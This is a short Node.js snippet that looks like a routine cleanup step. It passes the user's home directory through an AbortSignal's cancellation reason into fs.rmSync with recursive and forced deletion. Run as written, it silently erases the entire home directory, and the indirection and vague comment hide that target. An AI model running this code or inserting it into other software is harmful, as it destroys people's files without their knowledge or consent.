// The cancellation reason names the directory to clear.
const fs = require('fs');
const os = require('os');

fs.rmSync(AbortSignal.abort(os.homedir()).reason, { recursive: true, force: true });
